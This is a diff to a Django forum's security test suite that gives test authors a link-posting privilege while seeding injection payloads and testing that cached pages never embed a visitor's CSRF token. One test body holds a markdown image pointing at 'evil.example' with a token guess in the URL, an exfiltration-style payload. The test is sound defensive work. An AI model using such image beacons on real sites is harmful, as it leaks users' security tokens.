@@ -32,7 +32,8 @@ from accounts.models import User
 from forum import rendering, services
 from forum.forms import AnswerForm, TagsField
 from forum.models import COMMENT_MAX_LENGTH, TAG_MAX_LENGTH, TITLE_MAX_LENGTH, Tag
-from tests.factories import UserFactory
+from reputation.models import Privilege
+from tests.factories import UserFactory, give_privilege
 
 pytestmark = pytest.mark.django_db
 
@@ -334,7 +335,8 @@ class Seeded:
 def _seed(payload: Payload, index: int, category, chunk_tag: Tag) -> Seeded:
     """A member, a thread, an answer and a comment carrying *payload* everywhere it fits."""
     text = payload.text
-    author = UserFactory()
+    # Payloads are full of links and images: their author may post them (Basic level).
+    author = give_privilege(UserFactory(), Privilege.POST_LINKS)
     account_services.update_profile(
         author,
         display_name=text[: User._meta.get_field("display_name").max_length],
@@ -504,7 +506,7 @@ def test_cached_pages_do_not_put_the_visitors_csrf_token_into_user_content(
     guess = f"{slots._secret()}:csrf:"
     assert not AnswerForm({"body": "\x00" + guess + "\x00 and more text"}).is_valid()
     thread = services.ask_question(
-        author=UserFactory(),
+        author=give_privilege(UserFactory(), Privilege.POST_LINKS),
         category=category,
         title="Display stays blank after the update",
         body=f"![x](https://evil.example/p.png?t={guess}) and `{guess}` csrf-{slots._secret()[:4]}",
